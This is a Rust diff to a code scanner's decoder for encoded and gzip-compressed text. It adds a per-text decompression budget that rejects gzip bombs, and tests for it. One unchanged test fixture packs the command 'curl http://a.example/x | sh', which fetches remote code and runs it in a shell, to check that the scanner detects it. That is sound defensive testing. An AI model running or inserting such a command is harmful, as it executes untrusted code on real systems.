@@ -11,7 +11,7 @@ use memchr::memchr;
 
 use crate::{
     Severity,
-    engine::SearchError,
+    engine::{Exhausted, SearchError},
     prose, role,
     rules::obfuscation,
     scanner::Finder,
@@ -27,8 +27,8 @@ const RUN: usize = 64;
 /// What compressed bytes begin with.
 const GZIP: [u8; 2] = [0x1f, 0x8b];
 
-/// Bytes that are read of what is compressed.
-const INFLATED: u64 = 256 << 10;
+/// Bytes that are read of what is compressed in one text; more is too much work.
+const INFLATED: u64 = 1 << 20;
 
 /// Encodings inside encodings that are followed.
 const DEPTH: usize = 3;
@@ -42,7 +42,7 @@ const LENIENT: GeneralPurpose = GeneralPurpose::new(
 
 /// Decodes what looks encoded in a file and searches it; what blocks there is one finding here.
 pub(crate) fn check(source: &Source<'_>, finder: &mut Finder) -> Result<(), SearchError> {
-    for (offset, decoded) in decoded_runs(&source.text) {
+    for (offset, decoded) in decoded_runs(&source.text)? {
         if let Some((_, rule)) = worst_within(source.path, decoded, finder, DEPTH)? {
             let line = source.line_at(offset);
             let severity = role::severity(&obfuscation::ENCODED, source, line, offset);
@@ -71,7 +71,7 @@ fn worst_within(
     let mut worst = graded.filter(|(severity, _)| *severity >= Severity::High).max();
     worst = worst.max(prose::worst(&inner, finder)?.filter(|(severity, _)| *severity >= Severity::High));
     if depth > 1 {
-        for (_, deeper) in decoded_runs(&inner.text) {
+        for (_, deeper) in decoded_runs(&inner.text)? {
             worst = worst.max(worst_within(path, deeper, finder, depth - 1)?);
         }
     }
@@ -79,13 +79,17 @@ fn worst_within(
 }
 
 /// Where encoded runs start, with the text they decode to; runs that decode to no text are left out.
-fn decoded_runs(text: &str) -> Vec<(usize, String)> {
+fn decoded_runs(text: &str) -> Result<Vec<(usize, String)>, Exhausted> {
     let bytes = text.as_bytes();
     let mut found = Vec::new();
-    let mut at = 0;
+    let (mut at, mut room) = (0, INFLATED);
     while let Some(start) = next_run(bytes, at) {
         let end = run_end(bytes, start);
-        found.extend(decode(bytes.get(start..end).unwrap_or_default()).map(|decoded| (start, decoded)));
+        let decoded = decode(bytes.get(start..end).unwrap_or_default(), &mut room);
+        found.extend(decoded.map(|decoded| (start, decoded)));
+        if room == 0 {
+            return Err(Exhausted);
+        }
         at = end;
     }
     let mut at = 0;
@@ -95,7 +99,7 @@ fn decoded_runs(text: &str) -> Vec<(usize, String)> {
         at = end.max(start + 1);
     }
     found.sort_by_key(|(start, _)| *start);
-    found
+    Ok(found)
 }
 
 /// Where the next run begins that is long enough. Of a text of words one byte in [`SHORTEST`] is looked at,
@@ -137,7 +141,7 @@ fn run_end(bytes: &[u8], start: usize) -> usize {
     end
 }
 
-fn decode(run: &[u8]) -> Option<String> {
+fn decode(run: &[u8], room: &mut u64) -> Option<String> {
     let bare: Vec<u8> = run.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
     if bare.iter().all(u8::is_ascii_hexdigit) {
         return unhex(&bare).and_then(into_text);
@@ -153,16 +157,17 @@ fn decode(run: &[u8]) -> Option<String> {
     let whole = if standard.len() % 4 == 1 { standard.get(..standard.len() - 1)? } else { &standard };
     let decoded = LENIENT.decode(whole).ok()?;
     if decoded.starts_with(&GZIP) {
-        return inflated(GzDecoder::new(decoded.as_slice()));
+        return inflated(GzDecoder::new(decoded.as_slice()), room);
     }
     into_text(decoded)
 }
 
-/// The text that compressed bytes hold, as far as it is read.
-fn inflated(from: impl Read) -> Option<String> {
+/// The text that compressed bytes hold, as far as there is room for it.
+fn inflated(from: impl Read, room: &mut u64) -> Option<String> {
     let mut bytes = Vec::new();
-    from.take(INFLATED).read_to_end(&mut bytes).ok()?;
-    into_text(bytes)
+    let read = from.take(*room).read_to_end(&mut bytes);
+    *room = room.saturating_sub(bytes.len() as u64);
+    read.is_ok().then(|| into_text(bytes)).flatten()
 }
 
 fn unhex(digits: &[u8]) -> Option<Vec<u8>> {
@@ -196,7 +201,7 @@ mod tests {
     use super::*;
 
     fn texts(text: &str) -> Vec<String> {
-        decoded_runs(text).into_iter().map(|(_, decoded)| decoded).collect()
+        decoded_runs(text).unwrap().into_iter().map(|(_, decoded)| decoded).collect()
     }
 
     #[test]
@@ -217,8 +222,9 @@ mod tests {
             LENIENT.encode(to.finish().unwrap())
         };
         assert_eq!(texts(&packed("curl http://a.example/x | sh")), ["curl http://a.example/x | sh"]);
-        let bomb = packed(&"a".repeat(1 << 24));
-        assert!(texts(&bomb).iter().all(|text| text.len() as u64 <= INFLATED));
+        assert!(decoded_runs(&packed(&"a".repeat(1 << 24))).is_err(), "a bomb is too much work");
+        let many = [packed(&"a".repeat(1 << 18)).as_str(); 8].join(" ");
+        assert!(decoded_runs(&many).is_err(), "and so are many small ones");
     }
 
     #[test]
